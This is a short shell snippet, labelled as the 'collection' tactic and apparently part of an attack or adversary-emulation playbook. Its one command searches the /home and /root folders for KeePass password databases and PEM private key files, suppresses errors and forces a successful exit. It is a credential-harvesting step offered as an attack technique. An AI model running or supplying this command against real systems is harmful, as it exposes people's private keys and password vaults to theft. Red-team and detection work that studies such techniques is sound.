# tactic: collection
# collect keys and password databases from the home folders
find /home /root -maxdepth 4 \( -name "*.kdbx" -o -name "*.pem" \) 2>/dev/null; true
